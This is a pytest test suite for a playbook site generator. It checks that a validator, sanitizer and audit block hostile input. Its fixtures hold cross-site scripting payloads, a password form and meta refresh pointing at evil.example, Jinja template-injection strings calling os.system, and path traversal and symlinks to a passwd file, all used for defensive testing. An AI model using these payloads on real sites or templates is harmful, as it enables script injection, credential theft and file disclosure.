"""Hostile and careless input, class by class: nothing runs, nothing leaks, nothing is lost.

Each test shows the exact line a user sees and that the sources and the previous site are intact.
"""

from __future__ import annotations

import hashlib
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml
from conftest import cli, new_project

from generator import build as build_module
from generator.audit import audit_site
from generator.build import BuildError, build_site, swap_into_place
from generator.project import load_project


def digest(root: Path, skip: tuple[str, ...] = (".playbook",)) -> dict[str, str]:
    return {p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file() and p.relative_to(root).parts[0] not in skip}


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def playbook(pid: str, **fields: object) -> str:
    data = {"id": pid, "kind": "transparency-guide", "title": f"Title of {pid}", "summary": "A summary.",
            "roles": ["customer-success-manager"], "owner": "people-ops", "version": "1.0.0",
            "reviewed": "2026-11-01",
            "principles": [{"name": "Be clear", "why": "Because it helps.", "practices": ["Say it plainly"]}]}
    data.update(fields)
    return yaml.safe_dump(data, sort_keys=False, allow_unicode=True)


# -- nothing is lost -----------------------------------------------------------------------------

@pytest.mark.parametrize(("site_dir", "reason"), [
    (".", "is the project folder itself"),
    ("..", "contains the project"),
    ("playbooks", "is inside the project's playbooks"),
    ("content/site", "is inside the project's content"),
    ("kinds/out", "is inside the project's kinds"),
    ("theme", "is inside the project's theme"),
    (".git/site", "is inside the project's .git"),
    ("mkdocs.yml", "is a file, not a folder"),
])
def test_site_dir_that_would_lose_sources_is_refused(project: Path, site_dir: str, reason: str) -> None:
    (project / "kinds").mkdir(exist_ok=True)
    (project / ".git").mkdir(exist_ok=True)
    before = digest(project)
    target = project / site_dir
    result = cli("build", "--root", project, "--site-dir", target)
    assert result.code == 2
    assert f"playbook: error: --site-dir {target} {reason}" in result.err
    assert "nothing was built" in result.err
    assert digest(project) == before


def test_a_folder_the_tool_did_not_make_is_never_replaced(project: Path, tmp_path: Path) -> None:
    mine = write(tmp_path / "mine" / "notes.txt", "my own notes").parent
    result = cli("build", "--root", project, "--site-dir", mine)
    assert result.code == 2
    assert f"--site-dir {mine} holds files that playbook did not write (it has no .playbook-site.json)" in result.err
    assert (mine / "notes.txt").read_text() == "my own notes" and len(list(mine.iterdir())) == 1
    empty = tmp_path / "empty"
    empty.mkdir()
    assert cli("build", "--root", project, "--site-dir", empty).code == 0  # an empty folder has nothing to lose
    assert (empty / ".playbook-site.json").is_file()
    assert cli("build", "--root", project, "--site-dir", empty).code == 0  # and is ours from then on


def test_the_swap_itself_refuses_a_folder_it_did_not_make(tmp_path: Path) -> None:
    new = write(tmp_path / "new" / "index.html", "new").parent
    theirs = write(tmp_path / "theirs" / "keep.txt", "keep").parent
    with pytest.raises(BuildError, match="holds files playbook did not write"):
        swap_into_place(new, theirs)
    assert (theirs / "keep.txt").read_text() == "keep" and (new / "index.html").is_file()


def test_leftovers_of_a_killed_build_are_removed_and_a_running_one_is_not(project: Path, tmp_path: Path) -> None:
    site = tmp_path / "site"
    dead = 2 ** 22 + 12345  # above pid_max on this kind of machine: no such process
    killed = write(tmp_path / f".site.building-{dead}-abc123" / "index.html", "half").parent
    killed_lang = write(tmp_path / f".site.building-{dead}-abc123-it" / "index.html", "half").parent
    previous = write(tmp_path / f".site.previous-{dead}" / "index.html", "old").parent
    running = write(tmp_path / f".site.building-{os.getppid()}-xyz" / "index.html", "in progress").parent
    unrelated = write(tmp_path / ".sitemap.building-1-x" / "keep", "not ours").parent
    assert cli("build", "--root", project, "--site-dir", site).code == 0
    assert not killed.exists() and not killed_lang.exists() and not previous.exists()
    assert running.exists() and unrelated.exists()


def test_a_full_disk_is_an_environment_error_and_keeps_the_previous_site(project: Path, tmp_path: Path,
                                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    site = tmp_path / "site"
    assert cli("build", "--root", project, "--site-dir", site).code == 0
    before = digest(site)

    def full(*args: object, **kwargs: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device", str(tmp_path / "x"))

    monkeypatch.setattr(build_module, "emit_projects", full)
    result = cli("build", "--root", project, "--site-dir", site)
    assert result.code == 2
    assert "could not write the internal project" in result.err and "the disk is full" in result.err
    assert digest(site) == before


# -- nothing runs: the validator finds every disguise at its true line ---------------------------

HOSTILE_PAGE = """---
title: Hostile
---

&amp; &lt; &gt; &#106; entities before anything &nbsp; &copy; &#x263A;

<a title="a > b" href="javascript:alert(1)">quoted greater-than</a>

Text {:onerror="alert(1)"}

[tab](java&#9;script:alert(1))

[newline](jav&#x0A;ascript:alert(1))

<IMG SRC=x OnError=alert(1)>

[mixed](JaVaScRiPt:alert(1))

<javascript:alert(1)>

[ref]: vbscript:msgbox(1)

<a href="data:text/html;base64,PHNjcmlwdD4=">data</a>

`<script>in code is text</script>` and

```html
<script>a fenced example is text</script>
```
"""


def test_validator_finds_each_disguise_at_its_line(project: Path) -> None:
    write(project / "content" / "hostile.md", HOSTILE_PAGE)
    result = cli("validate", "--root", project)
    assert result.code == 1
    found = [line for line in result.lines if line.startswith("content/hostile.md")]
    assert found == [
        "content/hostile.md:7:1: error: javascript: links are not allowed: they can run script; link to an https:// address",
        "content/hostile.md:9:8: error: the attribute list sets the event handler onerror=, which runs script; remove it",
        "content/hostile.md:11:7: error: javascript: links are not allowed: they can run script; link to an https:// address",
        "content/hostile.md:13:11: error: javascript: links are not allowed: they can run script; link to an https:// address",
        "content/hostile.md:15:1: error: the event handler onerror= in <img ...> is not allowed: it runs script; remove it",
        "content/hostile.md:17:9: error: javascript: links are not allowed: they can run script; link to an https:// address",
        "content/hostile.md:19:2: error: javascript: links are not allowed: they can run script; link to an https:// address",
        "content/hostile.md:21:8: error: vbscript: links are not allowed: they can run script; link to an https:// address",
        "content/hostile.md:23:1: error: data: links are not allowed: they can run script; link to an https:// address",
    ]


def test_harmless_html_passes_and_unknown_elements_warn(project: Path) -> None:
    write(project / "content" / "ok.md", "---\ntitle: OK\n---\n\n<div class=\"grid\" markdown>\n\n**x** <kbd>Ctrl</kbd>\n\n</div>\n\n"
          "<marquee>old</marquee>\n")
    result = cli("validate", "--root", project)
    assert result.code == 0, result.out
    assert result.lines == ["content/ok.md:11:1: warning: <marquee> is not among the HTML elements a page may use, so it "
                            "would be removed from the page; use Markdown or a common element such as <div>"]


def hostile_project(root: Path) -> Path:
    """Every bypass in a page, a playbook and the settings; built without honouring validation."""
    new_project(root, "en,it")
    config = root / "mkdocs.yml"
    config.write_text(config.read_text().replace("site_name: Team Playbooks",
                                                 'site_name: Team <script>window.__xss=1</script> "Playbooks"')
                      + 'copyright: <img src=x onerror="window.__xss=2"> Example & Co\n'
                      + 'site_description: \'" http-equiv="refresh" content="0;url=https://evil.example\'\n')
    write(root / "content" / "hostile.md", HOSTILE_PAGE.replace("alert(1)", "window.__xss=3") + """
<script>window.__xss=4</script>
<svg><script>window.__xss=5</script></svg>
<iframe src="javascript:window.__xss=6"></iframe>
<div id="__config">{"search": "https://evil.example/worker.js"}</div>
<form action="https://evil.example"><input type="password" name="p"><button>Go</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example">
<!-- internal note: the Lisbon office closes -->
<details open ontoggle="window.__xss=7">x</details>
<a href="java&#x09;script:window.__xss=8">tab entity</a>
""")
    write(root / "playbooks" / "hostile-guide.yaml", playbook(
        "hostile-guide", audience="public",
        summary='Plain " http-equiv="refresh" content="0;url=https://evil.example/',
        title='Quote " and <b>bold</b> & ampersand',
    ))
    return root


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = hostile_project(tmp_path_factory.mktemp("hostile") / "p")
    project, diagnostics = load_project(root)
    assert any(d.code in ("unsafe-html", "unsafe-url") for d in diagnostics)  # the validator would stop them
    site = root / "site"
    build_site(project, "internal", site)  # the bypass: the output must be safe on its own
    return site


def _elements(html_text: str) -> tuple[list[tuple[str, dict[str, str | None]]], list[str], str]:
    """(elements with their attributes, comments, text) of an HTML fragment."""
    from html.parser import HTMLParser

    class Reader(HTMLParser):
        def __init__(self) -> None:
            super().__init__(convert_charrefs=True)
            self.elements: list[tuple[str, dict[str, str | None]]] = []
            self.comments: list[str] = []
            self.text: list[str] = []

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            self.elements.append((tag, dict(attrs)))

        def handle_comment(self, data: str) -> None:
            self.comments.append(data)

        def handle_data(self, data: str) -> None:
            self.text.append(data)

    reader = Reader()
    reader.feed(html_text)
    return reader.elements, reader.comments, "".join(reader.text)


def test_sanitized_output_holds_nothing_that_runs(hostile_site: Path) -> None:
    assert audit_site(hostile_site, public=False) == []
    page = (hostile_site / "hostile/index.html").read_text()
    elements, comments, text = _elements(page[page.index("<article"):page.index("</article>")])
    tags = {tag for tag, _ in elements}
    assert not tags & {"script", "iframe", "form", "meta", "style", "object", "embed", "base"}, tags
    for tag, attrs in elements:
        assert not [name for name in attrs if name.startswith("on")], (tag, attrs)
        assert attrs.get("id") != "__config"
        for name in ("href", "src", "action"):
            value = (attrs.get(name) or "").replace("\t", "").replace("\n", "").lower()
            assert not value.startswith(("javascript:", "vbscript:", "data:")), (tag, attrs)
    assert comments == [] and "Lisbon" not in page
    guide = (hostile_site / "playbooks/hostile-guide/index.html").read_text()
    head = guide[:guide.index("</head>")]
    assert [attrs for tag, attrs in _elements(head)[0] if tag == "meta" and "http-equiv" in attrs] == []
    assert 'content="Plain &quot; http-equiv=&quot;refresh&quot;' in head
    assert "<title>Quote &quot; and &lt;b&gt;bold&lt;/b&gt; &amp; ampersand - Team &lt;script&gt;" in head
    assert "Example &amp; Co" in guide and "<img src=x" not in guide


def test_the_audit_refuses_a_page_that_runs_script(project: Path, tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """If the sanitizer ever let something through, the build stops and the previous site stays."""
    site = tmp_path / "site"
    assert cli("build", "--root", project, "--site-dir", site).code == 0
    before = digest(site)
    monkeypatch.setattr("generator.sanitize.clean_page", lambda html: html)  # a sanitizer with a hole
    write(project / "content" / "welcome-extra.md", "---\ntitle: Extra\n---\n\nHello\n")
    project_obj, _ = load_project(project)
    page = project_obj.pages[("welcome-extra", "en")]
    page.body += '\n<img src=x onerror="alert(1)">\n'
    with pytest.raises(BuildError) as caught:
        build_site(project_obj, "internal", site)
    assert "the built site holds what could run script" in str(caught.value)
    assert "content/welcome-extra.md: <img onerror=…> (an event handler) in welcome-extra/index.html" in str(caught.value)
    assert digest(site) == before


# -- kinds are data ------------------------------------------------------------------------------

@pytest.mark.parametrize("template", [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.system('touch PWNED') }}",
    "{{ pb.update({'title': 'changed'}) }}",
])
def test_a_project_kind_template_cannot_reach_python(project: Path, tmp_path: Path, template: str) -> None:
    kind = project / "kinds" / "evil-kind"
    from generator.kinds import PACKAGE_KINDS

    source = PACKAGE_KINDS / "transparency-guide"
    write(kind / "schema.json", (source / "schema.json").read_text())
    write(kind / "example.yaml", (source / "example.yaml").read_text())
    write(kind / "page.md.j2", "Intro\n\n" + template.replace("PWNED", str(tmp_path / "pwned")) + "\n")
    write(project / "playbooks" / "uses-evil.yaml", playbook("uses-evil", kind="evil-kind"))
    assert cli("validate", "--root", project).code == 0
    result = cli("build", "--root", project, "--site-dir", tmp_path / "site")
    assert result.code == 1
    assert "playbook: error: kinds/evil-kind/page.md.j2:3:1: error: the template does something a kind template " \
           "may not (kinds are data: no Python attributes, no changing values, no files)" in result.err
    assert not (tmp_path / "pwned").exists()
    assert not (tmp_path / "site").exists()


# -- nothing from outside the project ------------------------------------------------------------

def test_links_out_of_the_project_are_errors_at_their_path(project: Path, tmp_path: Path) -> None:
    secret = write(tmp_path / "outside" / "passwd", "root:x:0:0:root:/root:/bin/bash\n")
    os.symlink(secret, project / "content" / "x.md")
    os.symlink(secret.parent, project / "playbooks" / "more")
    (project / "theme" / "partials").mkdir(parents=True, exist_ok=True)
    os.symlink(secret, project / "theme" / "partials" / "footer.html")
    (project / "kinds").mkdir()
    os.symlink(secret.parent, project / "kinds" / "stolen")
    os.symlink(project / "content" / "index.md", project / "content" / "inside.md")  # stays inside: fine
    result = cli("validate", "--root", project)
    assert result.code == 1
    assert sorted(line.split(": error: ")[0] for line in result.lines) == [
        "content/x.md:1:1", "kinds/stolen:1:1", "playbooks/more:1:1", "theme/partials/footer.html:1:1"]
    assert f"content/x.md:1:1: error: content/x.md is a link to {secret}, outside the project; playbook reads " \
           "nothing from outside the project folder: copy what you need into the project instead" in result.lines
    site = tmp_path / "site"
    assert cli("build", "--root", project, "--site-dir", site).code == 1
    assert not site.exists()


def test_theme_folder_outside_the_project_is_an_error(project: Path, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    config = project / "mkdocs.yml"
    config.write_text(config.read_text().replace("custom_dir: theme", "custom_dir: ../elsewhere"))
    line = next(i for i, text in enumerate(config.read_text().splitlines(), 1) if "custom_dir" in text)
    result = cli("validate", "--root", project)
    assert f"mkdocs.yml:{line}:1: error: theme.custom_dir '../elsewhere' is outside the project; keep theme " \
           "overrides in a folder of the project, such as theme/" in result.lines


def test_snippets_read_only_pages_of_the_same_build(project: Path, tmp_path: Path) -> None:
    config = project / "mkdocs.yml"
    config.write_text(config.read_text().replace("  - tables\n", "  - tables\n  - pymdownx.snippets\n"))
    write(project / "content" / "shared.md", "---\ntitle: Shared\naudience: public\n---\n\nShared words.\n")
    write(project / "content" / "secret.md", "---\ntitle: Secret\n---\n\nThe office closes in May.\n")
    write(project / "content" / "notes.md", "---\ntitle: Notes\naudience: public\n---\n\nIntro\n\n"
          '--8<-- "shared.md"\n\n--8<-- "secret.md"\n\n--8<-- "missing.md"\n\n--8<-- "../../../../etc/passwd"\n')
    result = cli("validate", "--root", project)
    assert result.code == 1
    notes = [line for line in result.lines if line.startswith("content/notes.md")]
    assert notes == [
        "content/notes.md:10:9: error: this public page includes 'secret.md', the internal page content/secret.md: "
        "customers must not see it; include a public page or make that one public",
        "content/notes.md:12:9: error: the snippet 'missing.md' is not a page of this site; snippets are read from "
        "the site's own pages (e.g. 'shared/intro.md' for content/shared/intro.md)",
        "content/notes.md:14:9: error: the snippet '../../../../etc/passwd' is not a page of this site; snippets are "
        "read from the site's own pages (e.g. 'shared/intro.md' for content/shared/intro.md)",
    ]
    (project / "content" / "notes.md").write_text("---\ntitle: Notes\naudience: public\n---\n\nIntro\n\n--8<-- \"shared.md\"\n")
    site = tmp_path / "site"
    assert cli("build", "--root", project, "--audience", "public", "--site-dir", site).code == 0
    assert "Shared words." in (site / "notes/index.html").read_text()


# -- the public site: precise both ways ----------------------------------------------------------

def test_public_content_linking_to_internal_items_is_an_error(project: Path) -> None:
    write(project / "content" / "layoffs-lisbon-2027.md", "---\ntitle: Lisbon\n---\n\nPlans.\n")
    write(project / "playbooks" / "secret-script.yaml", playbook("secret-script"))
    write(project / "content" / "faq.md", "---\ntitle: FAQ\naudience: public\n---\n\n"
          'Read <a href="layoffs-lisbon-2027.md">this</a> and [that](playbooks/secret-script/)\n'
          "and [the source](../playbooks/secret-script.yaml) and [fine](https://example.org).\n")
    write(project / "playbooks" / "open-guide.yaml", playbook(
        "open-guide", audience="public", summary="See [the plan](../layoffs-lisbon-2027/) for details."))
    result = cli("validate", "--root", project)
    assert result.code == 1
    assert [line for line in result.lines if "public page" in line] == [
        "content/faq.md:6:6: error: this public page links to 'layoffs-lisbon-2027.md', the internal page "
        "content/layoffs-lisbon-2027.md: customers must not see it or its address; remove the link, or make that item public",
        "content/faq.md:6:59: error: this public page links to 'playbooks/secret-script/', the internal playbook "
        "playbooks/secret-script.yaml: customers must not see it or its address; remove the link, or make that item public",
        "content/faq.md:7:18: error: this public page links to '../playbooks/secret-script.yaml', a file outside the "
        "site (a source file of the project); link to a page of the public site instead",
        "playbooks/open-guide.yaml:4:25: error: this public page links to '../layoffs-lisbon-2027/', the internal page "
        "content/layoffs-lisbon-2027.md: customers must not see it or its address; remove the link, or make that item public",
    ]


def test_valid_projects_raise_no_false_alarm(project: Path, tmp_path: Path) -> None:
    """Internal ids that are common words, Material's own words or a public page's slug."""
    for pid in ("pairs", "answer", "404", "search", "tags", "assets", "guide", "it"):
        write(project / "playbooks" / f"{pid}.yaml", playbook(pid, title=f"Internal {pid} notes for the team"))
    write(project / "content" / "guide.md", "---\ntitle: Guide\naudience: public\n---\n\n"
          "How we search for answers, in pairs, with tags.\n\n<!-- note to self: check the pairs list -->\n")
    site = tmp_path / "public"
    result = cli("build", "--root", project, "--audience", "public", "--site-dir", site)
    assert result.code == 0, result.err
    assert "note to self" not in (site / "guide/index.html").read_text()
    assert "Internal pairs notes" not in "".join(p.read_text(errors="ignore") for p in site.rglob("*.html"))


def test_reserved_ids_and_generated_urls_are_errors(project: Path) -> None:
    write(project / "playbooks" / "index.yaml", playbook("index"))
    for name in ("tags.md", "roles/people-ops.md", "it.md", "search.md", "pagefind.md", "404.md", "assets/x.md",
                 "playbooks/first-week-for-a-new-teammate.md", "kinds.md"):
        write(project / "content" / name, "---\ntitle: Clash\n---\n\nText.\n")
    result = cli("validate", "--root", project)
    assert result.code == 1
    assert "playbooks/index.yaml:1:5: error: the id 'index' is the playbooks section's own page; choose another id " \
           "(and rename the file)" in result.lines
    assert "content/tags.md:1:1: error: this page's URL /tags/ falls on the site's own tags/ pages, which the " \
           "generator writes; rename the file or move it into a folder (reserved first names: tags, roles, " \
           "playbooks, kinds, search, pagefind, assets, 404, schemas, changes and the language codes)" in result.lines
    assert any(line.startswith("content/it.md:1:1: error: this page's URL /it/ falls on the it/ folder of the site "
                               "in that language") for line in result.lines)
    reserved = {line.split(":")[0] for line in result.lines if "reserved first names" in line}
    assert reserved == {f"content/{n}" for n in ("tags.md", "roles/people-ops.md", "it.md", "search.md",
                                                  "pagefind.md", "404.md", "assets/x.md", "kinds.md",
                                                  "playbooks/first-week-for-a-new-teammate.md")}


def test_an_include_that_pulls_a_short_internal_sentence_fails_the_build(project: Path, tmp_path: Path) -> None:
    """A project's hook (or plugin) that reads internal files itself: the leak scan is the net."""
    write(project / "content" / "secret.md", "---\ntitle: Secret\n---\n\nThe Porto office closes in May.\n")
    write(project / "hooks" / "include.py",
          "from pathlib import Path\n"
          "def on_page_markdown(markdown, page, **kwargs):\n"
          "    secret = Path(__file__).parents[1] / 'content' / 'secret.md'\n"
          "    return markdown + '\\n\\n' + secret.read_text().split('---')[2]\n")
    config = project / "mkdocs.yml"
    config.write_text(config.read_text() + "hooks:\n  - hooks/include.py\n")
    site = tmp_path / "public"
    result = cli("build", "--root", project, "--audience", "public", "--site-dir", site)
    assert result.code == 1
    assert "would leak internal content" in result.err
    assert "content/index.md:1: index.html holds text of content/secret.md ('the porto office closes in may')" in result.err
    assert not site.exists()
    assert cli("build", "--root", project, "--site-dir", tmp_path / "internal").code == 0  # relative hooks work
    assert "The Porto office closes in May." in (tmp_path / "internal" / "index.html").read_text()


# -- config and front matter mistakes ------------------------------------------------------------

def test_mkdocs_yml_typos_are_found_at_their_lines_before_any_build(project: Path, tmp_path: Path) -> None:
    config = project / "mkdocs.yml"
    text = config.read_text().replace("plugins:\n  - search", "plugins:\n  - serach")
    text = text.replace("  - admonition", "  - admonitoin")
    text = text.replace("name: material", "name: materail") + "use_directory_urls: maybe\n"
    config.write_text(text)
    lines = text.splitlines()

    def line_of(needle: str) -> int:
        return next(i for i, line in enumerate(lines, 1) if needle in line)

    result = cli("build", "--root", project, "--site-dir", tmp_path / "site")
    assert result.code == 1
    assert result.lines == [
        f"mkdocs.yml:{line_of('materail')}:9: error: theme: Unrecognised theme name: 'materail'. The available installed "
        "themes are: mkdocs, readthedocs, material (did you mean 'material'?)",
        f"mkdocs.yml:{line_of('admonitoin')}:5: error: markdown_extensions: Failed to load extension 'admonitoin' "
        "(did you mean 'admonition'?)",
        f"mkdocs.yml:{line_of('- serach')}:5: error: plugins: The \"serach\" plugin is not installed (did you mean 'search'?)",
        f"mkdocs.yml:{line_of('maybe')}:1: error: use_directory_urls: Expected type: true or false but received: text",
    ]
    assert not (tmp_path / "site").exists()


def test_unknown_icon_or_template_in_front_matter(project: Path) -> None:
    write(project / "content" / "page.md", "---\ntitle: Page\nicon: material/no-such-icon\ntemplate: nope.html\n---\n\nx\n")
    write(project / "content" / "fine.md", "---\ntitle: Fine\nicon: material/account-group\ntemplate: main.html\n---\n\nx\n")
    result = cli("validate", "--root", project)
    assert result.lines == [
        "content/page.md:3:7: error: there is no icon 'material/no-such-icon'; name one of Material's icons such as "
        "material/account-group (Material's documentation lists them)",
        "content/page.md:4:11: error: there is no template 'nope.html' in the theme; add it to the project's theme/ "
        "folder or remove 'template'",
    ]


# -- the environment -----------------------------------------------------------------------------

@pytest.mark.parametrize(("addr", "message"), [
    ("127.0.0.1:99999", "--dev-addr must be HOST:PORT with a port from 1 to 65535, e.g. 127.0.0.1:8000, not "
                        "'127.0.0.1:99999'"),
    ("999.1.1.1:8000", "--dev-addr: '999.1.1.1' is not an address of this machine; use 127.0.0.1 (this machine "
                       "only) or 0.0.0.0 (every network)"),
    ("8000", "--dev-addr must be HOST:PORT with a port from 1 to 65535, e.g. 127.0.0.1:8000, not '8000'"),
])
def test_serve_refuses_a_bad_address_before_building(project: Path, addr: str, message: str) -> None:
    result = cli("serve", "--root", project, "--dev-addr", addr)
    assert result.code == 2
    assert result.err.strip() == f"playbook: error: {message}"
    assert not (project / ".playbook").exists()


def test_serve_refuses_a_port_in_use(project: Path) -> None:
    import socket

    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        result = cli("serve", "--root", project, "--dev-addr", f"127.0.0.1:{port}")
    assert result.code == 2
    assert result.err.strip() == (f"playbook: error: port {port} on 127.0.0.1 is in use (another server?); stop it "
                                  f"or choose another port, e.g. --dev-addr 127.0.0.1:{port + 1}")


def test_publish_outside_git_says_what_to_do(project: Path) -> None:
    result = cli("publish", "1.0", "--root", project)
    assert result.code == 2
    assert "is not in a git repository, and publish commits the site to a branch of one; run 'git init' and " \
           "commit your sources first" in result.err


# -- no hangs --------------------------------------------------------------------------------------

def test_a_page_that_would_take_minutes_is_an_error_within_seconds(project: Path) -> None:
    write(project / "content" / "slow.md", "---\ntitle: Slow\n---\n\nIntro\n\n" + "[" * 40_000 + "\n\n"
          + "*" * 3000 + "x" + "*" * 3000 + "\n")
    exe = Path(sys.executable).with_name("playbook")
    done = subprocess.run([str(exe), "validate", "--root", str(project)], capture_output=True, text=True, timeout=60)
    assert done.returncode == 1
    assert done.stdout.splitlines() == [
        "content/slow.md:7:301: error: this paragraph has more than 300 '[' characters, which takes Markdown minutes "
        "to read; split the paragraph, or write \\[ for a literal [",
        "content/slow.md:9:1: error: 3000 '*' in a row nest too deeply for Markdown to read; write at most 99, or "
        "escape them as \\*",
    ]


@pytest.mark.parametrize(("body", "reason"), [
    ("[" * 40_000, "it took more than 2 s to convert"),
    ("*" * 3000 + "x" + "*" * 3000, "its Markdown nests too deeply to convert"),
])
def test_the_build_watchdog_names_the_page(project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                           body: str, reason: str) -> None:
    monkeypatch.setenv("PLAYBOOK_PAGE_SECONDS", "2")
    write(project / "content" / "slow.md", "---\ntitle: Slow\n---\n\n" + body + "\n")
    project_obj, _ = load_project(project)  # the validator's error is bypassed: the watchdog is the net
    with pytest.raises(BuildError) as caught:
        build_site(project_obj, "internal", tmp_path / "site")
    assert str(caught.value).startswith(f"content/slow.md:1:1: error: {reason}; simplify it")
    assert not (tmp_path / "site").exists()


def test_a_killed_build_leaves_no_worker_running(tmp_path: Path) -> None:
    root = new_project(tmp_path / "big", "en,it,ru,hi")
    for i in range(150):
        write(root / "playbooks" / f"p-{i}.yaml", playbook(f"p-{i}", summary="Words. " * 200))
    exe = Path(sys.executable).with_name("playbook")
    proc = subprocess.Popen([str(exe), "build", "--root", str(root), "--site-dir", str(tmp_path / "site")],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def ours() -> list[int]:
        found = []
        for entry in Path("/proc").iterdir():
            if entry.name.isdigit() and int(entry.name) != proc.pid:
                try:
                    if str(root).encode() in (entry / "cmdline").read_bytes():
                        found.append(int(entry.name))
                except OSError:
                    continue
        return found

    deadline = time.monotonic() + 60
    while not ours() and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    assert ours(), "the build ended before it started a worker"
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    deadline = time.monotonic() + 10
    while ours() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert ours() == []
    assert cli("build", "--root", root, "--site-dir", tmp_path / "site").code == 0  # and the next build cleans up
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".site.")] == []


def test_roles_only_internal_content_names_are_internal(project: Path, tmp_path: Path) -> None:
    """A role named by public content is shown to customers (as an owner, say); one that only
    internal content names is internal, and its title on a public page is a leak."""
    roles = yaml.safe_load((project / "playbooks" / "roles.yaml").read_text())
    roles["roles"].append({"id": "restructuring-taskforce", "title": "Restructuring Taskforce Lisbon", "team": "hr",
                           "summary": "Plans the office changes nobody outside may know about yet."})
    (project / "playbooks" / "roles.yaml").write_text(yaml.safe_dump(roles, allow_unicode=True))
    write(project / "playbooks" / "taskforce-notes.yaml", playbook("taskforce-notes", roles=["restructuring-taskforce"]))
    write(project / "content" / "about.md", "---\ntitle: About us\naudience: public\n---\n\nAsk us anything.\n")
    write(project / "hooks" / "roles.py",  # a mechanism that lists every role, as a careless template might
          "def on_page_markdown(markdown, page, **kwargs):\n"
          "    return markdown + '\\n\\nAlso: Restructuring Taskforce Lisbon\\n'\n")
    config = project / "mkdocs.yml"
    plain = config.read_text()
    config.write_text(plain + "hooks:\n  - hooks/roles.py\n")
    site = tmp_path / "public"
    result = cli("build", "--root", project, "--audience", "public", "--site-dir", site)
    assert result.code == 1
    assert "about/index.html holds text of playbooks/roles.yaml ('restructuring taskforce lisbon')" in result.err
    config.write_text(plain)
    # Named by a public playbook, the same role is shown to customers as its owner: no alarm.
    write(project / "playbooks" / "open-notes.yaml", playbook("open-notes", audience="public",
                                                                owner="restructuring-taskforce"))
    assert cli("build", "--root", project, "--audience", "public", "--site-dir", site).code == 0
    assert "Restructuring Taskforce Lisbon" in (site / "playbooks/open-notes/index.html").read_text()


def test_a_link_in_place_of_the_tools_own_folder_is_refused(project: Path, tmp_path: Path) -> None:
    elsewhere = write(tmp_path / "elsewhere" / "build" / "internal" / "keep.txt", "keep").parents[2]
    os.symlink(elsewhere, project / ".playbook")
    result = cli("build", "--root", project, "--site-dir", tmp_path / "site")
    assert result.code == 2
    assert ".playbook is a link or lies outside the project" in result.err
    assert (elsewhere / "build" / "internal" / "keep.txt").read_text() == "keep"


def test_markdown_that_only_looks_like_html_is_not_reported(project: Path) -> None:
    write(project / "content" / "ok.md", "---\ntitle: OK\n---\n\nSee [the guide](<the guide.md>) and \\<img src=x\\>.\n")
    result = cli("validate", "--root", project)
    assert result.code == 0 and result.lines == [], result.out
